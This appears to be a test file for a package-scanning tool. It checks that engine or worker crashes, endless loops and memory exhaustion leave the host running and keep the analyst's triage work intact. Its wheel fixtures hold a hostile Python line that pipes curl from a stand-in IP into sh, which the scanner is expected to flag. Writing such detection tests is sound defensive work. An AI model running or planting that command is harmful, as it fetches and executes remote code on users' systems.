/**
 * The real engine behind the real host, made to fail at a named member (main/scan/fault-switch.ts): the host stays, says which member it was, opens
 * the case again and goes on without that member; nothing that the analyst did is lost, not even what was written right before.
 */
import { mkdtemp, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { safe } from "@orpc/client";
import { afterEach, describe, expect, onTestFinished, test } from "vitest";
import { CLOSE_CODES } from "../../../main/api/handshake.ts";
import type { WebHostOptions } from "../../../main/web/start-web-host.ts";
import { buildZip } from "../../support/zip-builder.ts";
import { judged } from "../api/stand-in-rooms.ts";
import { clientOf, closeCodeOf, dial, type Harness, logIn, openAll, startHarness } from "./web-harness.ts";

const FAULT = "VIVARIUM_FAULT";
const TIME = 300_000;

const payload = "import os\nos.system('curl http://192.0.2.5/x | sh')\n";
const fine = buildZip([{ name: "fine/__init__.py", content: payload }]);
const bad = buildZip([
	{ name: "bad/__init__.py", content: payload },
	{ name: "bad/evil.py", content: "x = 1\n" },
]);

afterEach(() => {
	delete process.env[FAULT];
});

async function start(fault: string, options: Partial<WebHostOptions> = {}): Promise<Harness> {
	process.env[FAULT] = fault;
	const folder = await mkdtemp(join(tmpdir(), "vivarium-survival-"));
	onTestFinished(() => rm(folder, { recursive: true, force: true }));
	const targets = [join(folder, "fine-1-py3-none-any.whl"), join(folder, "bad-1-py3-none-any.whl")];
	await writeFile(targets[0] ?? "", fine);
	await writeFile(targets[1] ?? "", bad);
	return startHarness({
		targets,
		offline: true,
		jobs: 1,
		engineEntry: new URL("../../../main/api/engine/engine-process.ts", import.meta.url),
		...options,
	});
}

async function openedId(client: ReturnType<typeof clientOf>, token: string): Promise<string> {
	const last = (await openAll(client, token)).at(-1);
	if (last?.type !== "opened") throw new Error(`Not opened: ${JSON.stringify(last)}`);
	return last.artifactId;
}

async function tokens(client: ReturnType<typeof clientOf>): Promise<[string, string]> {
	const { launch } = await client.host.info();
	return [launch[0]?.token ?? "", launch[1]?.token ?? ""];
}

describe("a fault of the engine", () => {
	test.each([
		["a crash while it opens a member", "crash:engine:bad/evil.py", {}],
		["a loop without end while it opens a member", "loop:engine:bad/evil.py", { silenceMs: 6_000 }],
		["memory without end while it opens a member", "memory:engine:bad/evil.py", { memoryMegabytes: 900 }],
		["a crash of a thread that reads a member", "crash:worker:bad/evil.py", { workers: "thread" as const }],
	])(
		"%s",
		async (_what, fault, options) => {
			const harness = await start(fault, options);
			const cookie = await logIn(harness);
			const socket = dial(harness.authority, cookie);
			const closed = closeCodeOf(socket);
			const client = clientOf(socket);
			const [fineToken, badToken] = await tokens(client);

			const artifactId = await openedId(client, fineToken);
			const [finding] = (await client.artifact.analysis({ artifactId })).findings;
			const findingId = finding?.id ?? "";
			await client.triage.record({
				artifactId,
				action: { kind: "judge", findingIds: [findingId], state: "dismissed", reason: "known" },
			});
			await client.triage.record({ artifactId, action: { kind: "note", findingId, text: "written right before" } });
			const { error } = await safe(openAll(client, badToken));
			expect(error).not.toBeNull();
			expect(await closed).toBe(CLOSE_CODES.engineRestarted);

			const again = clientOf(dial(harness.authority, cookie));
			expect(await openedId(again, fineToken)).toBe(artifactId);
			const state = await again.triage.state({ artifactId });
			expect(state.findings.get(findingId)).toMatchObject({
				state: "dismissed",
				reason: "known",
				note: "written right before",
			});

			const { coverage, findings, status } = judged(
				await again.artifact.analysis({ artifactId: await openedId(again, badToken) }),
			);
			expect(coverage.skipped).toEqual([
				expect.objectContaining({
					path: "bad/evil.py",
					reason: "the analysis engine ended while it read this member: not examined",
				}),
			]);
			expect(status).toBe("partial");
			expect(findings.map((one) => one.rule)).toContain("shell-download");
			expect(harness.lines.join("\n")).toMatch(/started again; 1 member/);
		},
		TIME,
	);
});

describe("a fault of a worker process", () => {
	test(
		"does not end the engine, and is told",
		async () => {
			const harness = await start("crash:worker:bad/evil.py");
			const client = clientOf(dial(harness.authority, await logIn(harness)));
			const [fineToken, badToken] = await tokens(client);
			const artifactId = await openedId(client, fineToken);
			const { coverage } = judged(await client.artifact.analysis({ artifactId: await openedId(client, badToken) }));
			expect(coverage.skipped.map(({ path, reason }) => [path, reason])).toEqual([
				["bad/evil.py", "the scanner died while it read this member: not examined"],
			]);
			// What was open is open.
			expect(judged(await client.artifact.analysis({ artifactId })).coverage.examined).toBe(1);
			expect(harness.lines.join("\n")).not.toContain("started again");
		},
		TIME,
	);
});
